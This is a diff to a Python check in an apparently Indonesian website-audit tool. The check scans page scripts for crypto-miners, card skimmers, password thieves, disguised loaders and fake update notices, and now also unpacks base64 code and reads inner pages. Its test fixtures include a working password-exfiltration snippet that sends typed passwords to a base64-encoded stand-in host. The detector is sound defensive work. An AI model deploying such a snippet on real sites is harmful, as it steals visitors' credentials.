@@ -1,8 +1,10 @@
 """No script on the front page harms visitors.
 
 ## What it does
-Reads the scripts in the front page's markup for miners, for code that reads card or PIN fields and
-sends them to another host, and for forged notices that offer a program as an update.
+Reads the scripts in the markup of the front page, and of the further pages of this visit, for miners;
+for code that sends card fields, passwords or single keys to a stranger; for packed code that fetches a
+stranger's; and for forged notices that offer a program as an update. What was packed as base64 or
+character codes is unpacked first.
 
 ## Why it matters
 The visitor's computer works for a stranger, or card data and passwords leave while the page looks as
@@ -13,19 +15,28 @@ Treat it as an incident: take the script out, find how it came in, rebuild from 
 change all passwords.
 
 ## Limits
-Only what stands in the front page itself is read; scripts that it loads from elsewhere are judged by
-their name alone, and nothing is run.
+Only what stands in the pages themselves is read; scripts that they load from elsewhere are judged by
+their name alone, and nothing is run. A login that sends its password to another host by an ordinary
+request is not accused: many honest ones do. Code that is disguised in other ways is not understood.
 
 ## References
 OWASP Top 10 2021, A08 (software and data integrity failures); BSSN Regulation 1/2024.
 """
 
-from ronda.engine.artifacts import HTTP_VISITOR, PAGE_VISITOR, FailureKind
+from ronda.engine.artifacts import (
+    HTTP_VISITOR,
+    INNER,
+    INNER_PREFIX,
+    PAGE_VISITOR,
+    Failure,
+    FailureKind,
+)
 from ronda.engine.checks.contract import (
     Case,
     Evidence,
     Guidance,
     Meta,
+    NotSeen,
     Outcome,
     Seen,
     Severity,
@@ -36,18 +47,19 @@ from ronda.engine.checks.contract import (
 from ronda.engine.checks.examples import failure, http, page
 from ronda.engine.checks.helpers import clip, own_page
 from ronda.engine.checks.legal import BSSN_INCIDENT, PERSONAL_DATA
-from ronda.engine.content.scripts import harmful
+from ronda.engine.content.harm import Harm, harmful
+from ronda.engine.content.inner import UNSEEN, inner_pages
 from ronda.engine.text import Text
 
 META = Meta(
     id="CONTENT.SCRIPT",
     area="content",
     title=Text("Tidak ada skrip berbahaya", "No script harms visitors"),
-    problem=Text("Skrip berbahaya di halaman depan", "A harmful script on the front page"),
+    problem=Text("Skrip berbahaya di halaman situs", "A harmful script on the site's pages"),
     finding_class="malicious-script",
     severity=Severity.CRITICAL,
     needs=(HTTP_VISITOR,),
-    also=(PAGE_VISITOR,),
+    also=(PAGE_VISITOR, INNER),
     legal=(BSSN_INCIDENT, PERSONAL_DATA),
     urgent=True,
     guidance=Guidance(
@@ -79,32 +91,51 @@ META = Meta(
 )
 _WHAT = {
     "miner": Text(
-        "Halaman depan menjalankan penambang kripto di komputer pengunjung.",
-        "The front page runs a crypto-miner on the visitor's computer.",
+        "Halaman {page} menjalankan penambang kripto di komputer pengunjung.",
+        "The page {page} runs a crypto-miner on the visitor's computer.",
     ),
     "skimmer": Text(
-        "Skrip di halaman depan mengirim isian kartu atau PIN ke pihak lain.",
-        "A script on the front page sends card or PIN fields to somebody else.",
+        "Skrip di halaman {page} mengirim isian kartu atau seluruh formulir ke pihak lain.",
+        "A script on the page {page} sends card fields or whole forms to somebody else.",
+    ),
+    "thief": Text(
+        "Skrip di halaman {page} mengirim sandi atau ketikan pengunjung ke pihak lain.",
+        "A script on the page {page} sends visitors' passwords or keystrokes to somebody else.",
+    ),
+    "loader": Text(
+        "Halaman {page} memuat skrip pihak lain lewat kode yang disamarkan.",
+        "The page {page} loads a stranger's script by disguised code.",
     ),
     "update": Text(
-        "Halaman depan menawarkan program berkedok pembaruan peramban.",
-        "The front page offers a program disguised as a browser update.",
+        "Halaman {page} menawarkan program berkedok pembaruan peramban.",
+        "The page {page} offers a program disguised as a browser update.",
     ),
 }
 
 
 def judge(seen: Seen) -> Verdict:
-    """Judge the scripts in the front page's markup; see the manual page above."""
+    """Judge the scripts in the markup of the pages; see the manual page above."""
     found = harmful(seen.http().body, seen.site.host)
-    if found is None:
-        own = own_page(seen)
-        if isinstance(own, Verdict):
-            return own
-        return passed(
-            Text("Tidak terlihat skrip yang berbahaya.", "No harmful script can be seen.")
-        )
-    where = Text("skrip di halaman depan", "script on the front page")
-    return failed(_WHAT[found.what], Evidence(HTTP_VISITOR, where, clip(found.words)))
+    if found is not None:
+        return _accused(HTTP_VISITOR, "/", found)
+    unseen: NotSeen | None = None
+    for key, answer, inside in inner_pages(seen.artifacts):
+        if isinstance(answer, Failure):
+            unseen = unseen or (NotSeen(key, answer) if answer.kind in UNSEEN else None)
+        elif inside is not None and (found := harmful(answer.body, seen.site.host)):
+            return _accused(key, key.removeprefix(INNER_PREFIX), found)
+    if unseen is not None:
+        raise unseen  # it may be the very page on which the script was found
+    own = own_page(seen)
+    if isinstance(own, Verdict):
+        return own
+    return passed(Text("Tidak terlihat skrip yang berbahaya.", "No harmful script can be seen."))
+
+
+def _accused(key: str, path: str, found: Harm) -> Verdict:
+    where = Text("skrip di halaman itu", "script on that page")
+    said = _WHAT[found.what].fill(page=clip(path)[:120])
+    return failed(said, Evidence(key, where, clip(found.words)))
 
 
 _SKIMMER = (
@@ -115,6 +146,14 @@ _SKIMMER = (
 _OWN = (
     "<script>form.addEventListener('submit',()=>fetch('https://dinas.contohprov.go.id/bayar',"
     "{method:'POST',body:card_number.value}))</script>"
+)
+_THIEF = (
+    "<script>setInterval(()=>{var p=document.querySelector('input[type=password]');if(p&&p.value)"
+    "fetch(atob('aHR0cHM6Ly9wZW5hbXB1bmcuZXhhbXBsZS9w')+'?p='+p.value)},900)</script>"
+)
+_LOGIN = (
+    "<script>f.addEventListener('submit',async()=>{await fetch('https://api.aplikasidinas.example/login',"
+    "{method:'POST',body:JSON.stringify({u:user.value,p:password.value})})})</script>"
 )
 
 CASES = (
@@ -157,6 +196,17 @@ CASES = (
         },
         Outcome.FAIL,
         says="pembaruan",
+    ),
+    Case(
+        "A password sent off as it is typed, to an address that is packed",
+        {PAGE_VISITOR: page(), HTTP_VISITOR: http(_THIEF)},
+        Outcome.FAIL,
+        says="sandi",
+    ),
+    Case(
+        "A login that asks another host of its maker's",
+        {PAGE_VISITOR: page(), HTTP_VISITOR: http(_LOGIN)},
+        Outcome.PASS,
     ),
     Case("No answer", {HTTP_VISITOR: failure(FailureKind.TIMEOUT)}, Outcome.NOT_MEASURED),
 )
